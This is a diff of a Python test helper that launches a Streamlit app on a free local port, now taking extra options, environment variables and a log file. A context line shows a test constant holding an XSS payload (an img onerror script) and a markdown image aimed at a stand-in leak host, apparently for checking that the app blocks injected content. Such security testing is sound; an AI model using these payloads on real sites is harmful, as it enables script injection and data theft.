@@ -15,14 +15,15 @@ EVIL = "<img src=x onerror=\"document.title='owned'\"> ![x](http://leak.example/
 
 
 @contextmanager
-def serving(workspace: Path) -> Iterator[str]:
-    """The app as people start it, on a free port; yields its address."""
+def serving(workspace: Path, *options: str, log: Path | None = None, **variables: str) -> Iterator[str]:
+    """The app as people start it, on a free port, with further options and environment variables; yields its address."""
     with socket.socket() as free:
         free.bind(("127.0.0.1", 0))
         port = free.getsockname()[1]
-    environment = os.environ | {"NEURFLOW_WORKSPACE": str(workspace)}
-    command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)]
-    server = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    environment = os.environ | {"NEURFLOW_WORKSPACE": str(workspace)} | variables
+    command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port), *options]
+    with open(log or os.devnull, "wb") as out:
+        server = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=out, stderr=out)
     address = f"http://127.0.0.1:{port}"
     try:
         for _ in range(300):
